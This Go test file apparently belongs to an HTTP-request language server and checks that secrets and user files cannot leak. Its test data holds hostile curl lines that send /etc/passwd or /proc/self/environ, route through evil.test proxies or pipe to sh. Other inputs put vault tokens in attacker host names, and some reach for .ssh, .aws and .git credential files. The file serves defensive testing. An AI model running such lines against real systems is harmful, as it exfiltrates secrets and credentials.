package request_test

import (
	"errors"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/vault-lsp/vault-lsp/env"
	"github.com/vault-lsp/vault-lsp/parser"
	"github.com/vault-lsp/vault-lsp/request"
)

// privatePlan is the first request of src, with a private environment file.
func (w *world) privatePlan(src, private string) *request.Plan {
	w.Helper()
	envs := env.Load(fstest.MapFS{"http-client.private.env.json": {Data: []byte(private)}}, ".")
	file := parser.Parse(src)
	plan, problems := request.Build(file, file.Blocks[0].Request, env.NewScope(file, envs, "", nil), w.sources())
	if plan == nil {
		w.Fatalf("Build(%q): %+v", src, problems)
	}
	return plan
}

// TestThreatSecretAsHostIsNotRemembered: a value that is only a part of the
// host must neither be shown in the question nor written to the permissions.
func TestThreatSecretAsHostIsNotRemembered(t *testing.T) {
	t.Parallel()
	for _, target := range []string{
		"{{$vault path=app/token key=t}}.evil.test:443/x",
		"{{$vault path=app/token key=t}}:443/x",
		"{{$vault path=app/token key=t}}evil.test/x",
		"https://{{$vault path=app/token key=t}}.evil.test/x",
	} {
		t.Run(target, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			w.vault.values[plainRef] = plainValue
			w.answer = request.Always
			_, problem := w.send("GET " + target + "\n")
			if problem == nil {
				t.Fatal("it was sent")
			}
			text := problem.Message + problem.Hint
			for _, q := range w.asked {
				text += q.Origin
			}
			if strings.Contains(text, plainValue) {
				t.Errorf("it shows %s", text)
			}
			if rules, err := w.store.List(); err != nil || len(rules) > 0 {
				t.Errorf("rules %v, %v", rules, err)
			}
		})
	}
}

// TestThreatSecretAsHostIsNotLookedUp: to ask a name server for a name is to
// tell it.
func TestThreatSecretAsHostIsNotLookedUp(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.vault.values[plainRef] = plainValue
	lookup := w.opts.LookupIP
	w.opts.LookupIP = func(ctx ctx, host string) ([]netipAddr, error) {
		if strings.Contains(host, plainValue) {
			t.Errorf("looked up %s", host)
		}
		return lookup(ctx, host)
	}
	if _, problem := w.send("GET http://{{$vault path=app/token key=t}}.localhost/\n"); problem == nil || problem.Code != request.CodePlainHTTP {
		t.Errorf("%+v", problem)
	}
}

// TestThreatHostHeaderNamesAnotherSite: one address serves many sites, so who
// gets the secret is who the Host header names.
func TestThreatHostHeaderNamesAnotherSite(t *testing.T) {
	t.Parallel()
	const src = "GET https://good.example.com/\nHost: evil.example.com\nAuthorization: Bearer {{$vault path=app/token key=t}}\n"
	start := func(t *testing.T) (*world, *recorder) {
		w := newWorld(t)
		w.vault.values[plainRef] = plainValue
		server := w.serve(true, nil)
		w.hosts["good.example.com:443"] = server.addr()
		return w, server
	}
	allow := func(w *world, origins ...string) request.Call {
		call := w.call()
		call.Ask, call.AllowOrigins = nil, origins
		return call
	}
	t.Run("only the address is allowed", func(t *testing.T) {
		t.Parallel()
		w, server := start(t)
		_, problem := w.sendWith(w.plan(src), allow(w, "https://good.example.com"))
		if problem == nil || problem.Code != request.CodeDenied || !strings.Contains(problem.Message, "https://evil.example.com") {
			t.Errorf("%+v", problem)
		}
		if len(server.requests()) > 0 || len(w.vault.fetched) > 0 {
			t.Errorf("sent %v, fetched %v", server.requests(), w.vault.fetched)
		}
	})
	t.Run("both are allowed", func(t *testing.T) {
		t.Parallel()
		w, server := start(t)
		if _, problem := w.sendWith(w.plan(src), allow(w, "https://good.example.com", "https://evil.example.com")); problem != nil {
			t.Fatalf("%+v", problem)
		}
		if got := server.last(t); got.Host != "evil.example.com" {
			t.Errorf("Host %q", got.Host)
		}
	})
	t.Run("loopback serves any name", func(t *testing.T) {
		t.Parallel()
		w, _ := start(t)
		server := w.serve(false, nil)
		if _, problem := w.sendWith(w.plan(strings.Replace(src, "https://good.example.com", server.URL, 1)), allow(w)); problem != nil {
			t.Errorf("%+v", problem)
		}
	})
	t.Run("the same host", func(t *testing.T) {
		t.Parallel()
		w, _ := start(t)
		if _, problem := w.sendWith(w.plan(strings.Replace(src, "evil.", "GOOD.", 1)), allow(w, "https://good.example.com")); problem != nil {
			t.Errorf("%+v", problem)
		}
	})
}

// TestThreatRedirectCarriesPrivateText: text of a private environment file is
// a secret too, and a redirect does not take it to another origin.
func TestThreatRedirectCarriesPrivateText(t *testing.T) {
	t.Parallel()
	const private = `{"$shared":{"apiKey":"PrivateMarker-99"}}`
	start := func(t *testing.T) (w *world, server, other *recorder) {
		w = newWorld(t)
		other = w.serve(false, nil)
		w.hosts["other.example.com:80"] = other.addr()
		server = w.serve(false, redirectTo(http.StatusTemporaryRedirect, "http://other.example.com/"))
		return w, server, other
	}
	t.Run("header", func(t *testing.T) {
		t.Parallel()
		w, server, other := start(t)
		response, problem := w.sendWith(w.privatePlan("GET "+server.URL+"/\nX-Api-Key: {{apiKey}}\nX-Kept: yes\n", private), w.call())
		if problem != nil {
			t.Fatalf("%+v", problem)
		}
		if got := other.last(t); got.holds("PrivateMarker-99") || got.Header.Get("X-Kept") != "yes" {
			t.Errorf("the other server got %+v", got)
		}
		if d := response.Redirects[0].Dropped; len(d) != 1 || d[0] != "X-Api-Key" {
			t.Errorf("dropped %q", d)
		}
	})
	t.Run("body", func(t *testing.T) {
		t.Parallel()
		w, server, other := start(t)
		_, problem := w.sendWith(w.privatePlan("POST "+server.URL+"/\n\nkey={{apiKey}}\n", private), w.call())
		if problem == nil || problem.Code != request.CodeDenied {
			t.Errorf("%+v", problem)
		}
		if len(other.requests()) > 0 {
			t.Errorf("the other server got %+v", other.requests())
		}
	})
}

// TestThreatRedirectHostInUpperCase: host names lose their case, and a value in
// one is still not shown.
func TestThreatRedirectHostInUpperCase(t *testing.T) {
	t.Parallel()
	const value = "Mixed-Case-Token-77"
	w := newWorld(t)
	w.vault.values[plainRef] = value
	w.answer = request.Always
	server := w.serve(false, redirectTo(http.StatusFound, "https://"+value+".evil.test/"))
	_, problem := w.send(get(server.URL))
	if problem == nil {
		t.Fatal("it was followed")
	}
	text := problem.Message + problem.Hint
	for _, q := range w.asked {
		text += q.Origin
	}
	if strings.Contains(strings.ToLower(text), strings.ToLower(value)) {
		t.Errorf("shown: %s", text)
	}
	if rules, _ := w.store.List(); len(rules) > 0 {
		t.Errorf("remembered: %v", rules)
	}
}

// TestThreatHintGrantsTooMuch: the command that a refusal suggests allows what
// was refused, and nothing for the files of other workspaces.
func TestThreatHintGrantsTooMuch(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	_, problem := w.send(get("https://example.com/"))
	if problem == nil || !strings.Contains(problem.Hint, " --workspace /project") {
		t.Errorf("%+v", problem)
	}
}

// TestThreatCurlFollowsWithSecrets: curl takes a header of its own to wherever
// a redirect leads, so a command with values in it follows none.
func TestThreatCurlFollowsWithSecrets(t *testing.T) {
	t.Parallel()
	for src, follows := range map[string]bool{
		"GET http://x.test/\nX-A: 1\n":                                               true,
		"GET http://x.test/?k={{$vault path=t}}\n":                                   true,
		"GET http://x.test/\nAuthorization: Bearer {{$vault path=t}}\nCookie: a=b\n": true,
		"GET http://x.test/\nX-Api-Key: {{$vault path=t}}\n":                         false,
		"POST http://x.test/\n\n{{$vault path=t}}\n":                                 false,
	} {
		if got := strings.Contains(newWorld(t).plan(src).Curl(), "--location"); got != follows {
			t.Errorf("%q: --location %v", src, got)
		}
	}
	for src, follows := range map[string]bool{
		"GET http://x.test/{{apiKey}}\nAuthorization: Bearer {{apiKey}}\n": true,
		"GET http://x.test/\nX-Api-Key: {{apiKey}}\n":                      false,
		"POST http://x.test/\n\nkey={{apiKey}}\n":                          false,
	} {
		plan := newWorld(t).privatePlan(src, `{"$shared":{"apiKey":"PrivateMarker-99"}}`)
		if got := strings.Contains(plan.Curl(), "--location"); got != follows {
			t.Errorf("private %q: --location %v", src, got)
		}
	}
}

// TestThreatLargeBodiesFillTheDisk: what a server makes us write is bounded in
// all, not only for each response.
func TestThreatLargeBodiesFillTheDisk(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.opts.MaxBodySize, w.opts.MaxFileSize = 10, 1000
	server := w.serve(false, func(rw http.ResponseWriter, _ *http.Request) { _, _ = rw.Write(make([]byte, 5000)) })
	for range 10 {
		w.mustSend("GET " + server.URL)
	}
	entries, err := os.ReadDir(filepath.Join(w.opts.StateDir, "responses"))
	if err != nil {
		t.Fatal(err)
	}
	var total int64
	for _, e := range entries {
		info, err := e.Info()
		if err != nil {
			t.Fatal(err)
		}
		total += info.Size()
	}
	if total > 2*w.opts.MaxFileSize {
		t.Errorf("%d files with %d bytes", len(entries), total)
	}
}

// TestThreatEchoInMediaType: a media type is read in lower case.
func TestThreatEchoInMediaType(t *testing.T) {
	t.Parallel()
	const value = "Mixed-Case-Token-77"
	w := newWorld(t)
	w.vault.values[plainRef] = value
	server := w.serve(false, func(rw http.ResponseWriter, _ *http.Request) {
		rw.Header().Set("Content-Type", value+"/x; charset=utf-8")
	})
	if got := w.mustSend(get(server.URL)).Body.MediaType; strings.Contains(got, strings.ToLower(value)) {
		t.Errorf("media type %q", got)
	}
}

// TestThreatFilesOfTheUser: a workspace's folder holds files that did not come
// with it. A request file cannot have them sent, in no way that reads a file.
func TestThreatFilesOfTheUser(t *testing.T) {
	w := newWorld(t)
	for name, text := range map[string]string{
		".git/config": "url = https://user:token@example.com", "sub/.HG/hgrc": "x", ".ssh/id": "key",
		"sub/.aws/credentials": "key", "a/.b/c.json": "{}", ".env.json": "{}",
	} {
		path := filepath.Join(w.dir, filepath.FromSlash(name))
		if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o700), writeFile(path, text)); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(".git/config", filepath.Join(w.dir, "data.json")); err != nil {
		t.Fatal(err)
	}
	for _, test := range []struct{ home, file, want string }{
		{"", ".git/config", "belongs to you"},
		{"", "./data.json", "belongs to you"},
		{"", "sub/.HG/hgrc", "belongs to you"},
		{"", ".ssh/id", ""}, // of the repository, not the user's
		{"", "a/.b/c.json", ""},
		{".", ".ssh/id", "belongs to you"},
		{".", ".env.json", "belongs to you"},
		{".", "a/.b/c.json", ""},
		{"sub", "sub/.aws/credentials", "belongs to you"},
		{"sub", "a/.b/c.json", ""},
	} {
		home := t.TempDir()
		if test.home != "" {
			home = filepath.Join(w.dir, test.home)
		}
		t.Setenv("HOME", home)
		for _, form := range []string{
			"POST http://x.test\n\n< %s", "POST http://x.test\n\n<@ %s", "GET http://x.test/{{< %s}}", "curl http://x.test -d @%s",
		} {
			plan, problems := w.build(fmt.Sprintf(form, test.file))
			e := request.ProblemError(problems)
			if test.want == "" && plan == nil ||
				test.want != "" && (plan != nil || e == nil || e.Code != request.CodeBodyFile || !strings.Contains(e.Message, test.want)) {
				t.Errorf("home %q, %q, %s: %+v, want %q", test.home, form, test.file, problems, test.want)
			}
		}
	}
}

// TestThreatCurlGoesAroundTheGuard: a request that is written as a curl command
// is asked for like any other, and cannot say more than one: no other server, no
// file outside the workspace, no option that only curl itself would understand.
func TestThreatCurlGoesAroundTheGuard(t *testing.T) {
	t.Parallel()
	const ref = tokenRef
	for _, line := range []string{
		"curl https://example.com/ -H 'Authorization: Bearer " + ref + "'",
		"curl https://example.com/ -u 'user:" + ref + "'",
		"curl https://example.com/ -b 'session=" + ref + "'",
		"curl https://example.com/ -A '" + ref + "'",
		"curl https://example.com/ -e '" + ref + "'",
		"curl https://example.com/ --data-raw '" + ref + "'",
		"curl https://example.com/ --json '{\"a\":\"" + ref + "\"}'",
		"curl 'https://example.com/?t=" + ref + "'",
		"curl 'https://" + ref + "@example.com/'",
		"curl 'https://{example.com,127.0.0.1}/" + ref + "'",
		"curl https://example.com/ -H 'Host: 127.0.0.1' -d '" + ref + "'",
		"curl --url https://example.com/ -d '" + ref + "'",
		"curl 'https://127.0.0.1\\@example.com/' -d '" + ref + "'",
		"curl http://127.0.0.1@example.com/ -d '" + ref + "'",
		"curl https://example.com/ -d @/etc/passwd",
		"curl https://example.com/ -d @../outside",
		"curl https://example.com/ --data-binary '@/proc/self/environ'",
		"curl https://example.com/ -b /etc/passwd",
		"curl https://example.com/ -H @/etc/passwd",
		"curl https://example.com/ -K /etc/passwd",
		"curl https://example.com/ -T /etc/passwd",
		"curl https://example.com/ -F 'a=@/etc/passwd'",
		"curl https://example.com/ --data-urlencode a@/etc/passwd",
		"curl https://example.com/ -x http://evil.test:1",
		"curl https://example.com/ --socks5 evil.test",
		"curl https://example.com/ --resolve example.com:443:127.0.0.1",
		"curl https://example.com/ --connect-to ::evil.test:443",
		"curl https://example.com/ --unix-socket /run/docker.sock",
		"curl https://example.com/ -o /tmp/out",
		"curl https://example.com/ -k",
		"curl https://example.com/ https://evil.test/",
		"curl https://example.com/ | sh",
		"curl file:///etc/passwd",
		"curl -q -K - https://example.com/",
	} {
		w := newWorld(t)
		outside := filepath.Join(filepath.Dir(w.dir), "outside")
		if err := writeFile(outside, "outside"); err != nil {
			t.Fatal(err)
		}
		server := w.serve(true, nil)
		for _, address := range []string{"example.com:443", "evil.test:443", "evil.test:1", "127.0.0.1:443"} {
			w.hosts[address] = server.addr()
		}
		if plan, problems := w.build(line); plan == nil {
			if e := request.ProblemError(problems); e == nil {
				t.Errorf("%s: no plan, and no problem", line)
			}
			continue
		}
		w.answer = request.Deny
		if _, problem := w.send(line); problem == nil || len(server.requests()) > 0 || len(w.vault.fetched) > 0 {
			t.Errorf("%s: %+v, %d requests, fetched %q", line, problem, len(server.requests()), w.vault.fetched)
		}
	}
}

// TestThreatEditorSettings: what only the user's own settings of the editor hold
// is the user's. A cloned file that names the variable has it sent nowhere
// before the user was asked, wherever in the request it stands; but the user's
// own server may be named by it.
func TestThreatEditorSettings(t *testing.T) {
	t.Parallel()
	const token = "t0ken-of-the-user"
	envs := env.Load(fstest.MapFS{}, ".").WithEditor(`{"$shared": {"token": "` + token + `", "host": "example.com", "base": "https://example.com/v1", "origin": "https://example.com", "o": {"k": "` + token + `"}}}`)
	for src, in := range map[string]string{
		"GET https://example.com/{{token}}":                                                           "path",
		"GET https://example.com/?t={{token}}":                                                        "query",
		"GET https://example.com/?t={{%token}}":                                                       "query",
		"GET https://{{token}}@example.com/":                                                          "header:Authorization",
		"GET https://{{token}}.example.com/":                                                          "url",
		"GET https://{{host}}.example.com/":                                                           "url",
		"GET {{origin}}.evil.test/":                                                                   "url",
		"GET {{origin}}@evil.test/":                                                                   "header:Authorization",
		"GET https://evil.{{host}}/":                                                                  "url",
		"GET {{origin}}:8443/{{base}}":                                                                "path",
		"GET https://example.com/\nX-A: {{token}}":                                                    "header:X-A",
		"GET https://example.com/\nAuthorization: Basic user {{token}}":                               "header:Authorization",
		"GET https://example.com/\nHost: {{token}}.example.com":                                       "header:Host",
		"POST https://example.com/\n\n{\"a\": \"{{token}}\"}":                                         "body",
		"POST https://example.com/\n\n<@ vars.txt":                                                    "body",
		"POST https://example.com/\n\n{{<@ vars.txt}}":                                                "body",
		"POST https://example.com/\nContent-Type: application/x-www-form-urlencoded\n\na={{token}}":   "body",
		"POST https://example.com/\nX-Request-Type: GraphQL\n\nquery { a(b: \"{{token}}\") }":         "body",
		"POST https://example.com/\nX-Request-Type: GraphQL\n\nquery { a }\n\n{\"v\": \"{{token}}\"}": "body",
		"GRAPHQL https://example.com/\n\nquery { a(b: \"{{token}}\") }":                               "body",
		"curl https://example.com/ -d '{{token}}'":                                                    "body",
		"@t = x{{token}}\nGET https://example.com/{{t}}":                                              "path",
		"GET https://example.com/{{$shared token}}":                                                   "path",
		"GET https://example.com/{{o.k}}":                                                             "path",
		"GET https://example.com/{{$datetime \"'{{token}}'\"}}":                                       "path",
		"GET https://{{host}}/":                                                                       "",
		"GET https://{{host}}:8443/a":                                                                 "",
		"GET {{base}}/a":                                                                              "",
		"GET /a\nHost: {{host}}":                                                                      "",
		"GET {{base}}/{{token}}":                                                                      "path",
		"@token = {{token}}\nGET https://example.com/{{token}}":                                       "path",
		"@token = x{{token}}\nGET https://example.com/{{token}}":                                      "path",
		"@host = {{host}}\nGET https://{{host}}/":                                                     "",
		"@host = {{host}}.evil.test\nGET https://{{host}}/":                                           "url",
		"@host = https://{{host}}.evil.test\nGET /a":                                                  "url",
		"@host = {{host}}@evil.test\nGET https://{{host}}/":                                           "header:Authorization",
		"@origin = {{origin}}.evil.test\nGET {{origin}}/":                                             "url",
		"GET /a\nHost: {{origin}}":                                                                    "",
		"GET /a\nHost: {{origin}}.evil.test":                                                          "url",
		"GET /a\nHost: https://{{host}}.evil.test":                                                    "url",
		"GET https://example.com/\nCookie: a=1\nCookie: b={{token}}":                                  "header:Cookie",
		"curl https://example.com/ -b 'a={{token}}' -b b=1":                                           "header:Cookie",
		"curl https://example.com/ --data-urlencode 'a={{token}}'":                                    "body",
		"curl https://example.com/ --data-urlencode '{{token}}=a'":                                    "body",
		"curl -G https://example.com/ -d 'a={{token}}'":                                               "query",
		"curl -G https://example.com/ --data-urlencode '{{token}}'":                                   "query",
		"curl -G https://example.com/?a#b -d '{{token}}'":                                             "query",
		"curl -G {{origin}} --data-raw '@evil.test/'":                                                 "",
	} {
		w := newWorld(t)
		if err := writeFile(filepath.Join(w.dir, "vars.txt"), "a{{token}}"); err != nil {
			t.Fatal(err)
		}
		file := parser.Parse(src)
		plan, problems := request.Build(file, file.Blocks[0].Request, env.NewScope(file, envs, "", nil), w.sources())
		if plan == nil {
			t.Errorf("%s: %+v", src, problems)
			continue
		}
		server := w.serve(true, nil)
		for _, address := range []string{"example.com:443", "example.com:8443"} {
			w.hosts[address] = server.addr()
		}
		w.answer = request.Deny
		_, err := w.sender().Send(t.Context(), plan, w.call())
		if in == "" {
			if len(w.asked) > 0 {
				t.Errorf("%s: asked %+v", src, w.asked)
			}
			continue
		}
		if err == nil || len(w.asked) != 1 || w.asked[0].Items[0].In != in || len(server.requests()) > 0 ||
			strings.Contains(w.asked[0].Items[0].Reference, "of the environment") {
			t.Errorf("%s: %v, asked %+v, want %s, %d requests", src, err, w.asked, in, len(server.requests()))
		}
	}
}

// TestThreatFileOfAnotherMachine: a path outside the workspace is refused by its
// name, whether or not there is such a file: to ask would tell a server of
// another machine who the user is.
func TestThreatFileOfAnotherMachine(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, name := range []string{"/nosuch/share/file", "../nosuch", "a/../../nosuch", "//evil.test/share/file"} {
		plan, problems := w.build("POST http://x.test\n\n< " + name)
		if e := request.ProblemError(problems); plan != nil || e == nil || !strings.Contains(e.Message, "outside the workspace") {
			t.Errorf("%s: %+v", name, problems)
		}
	}
}
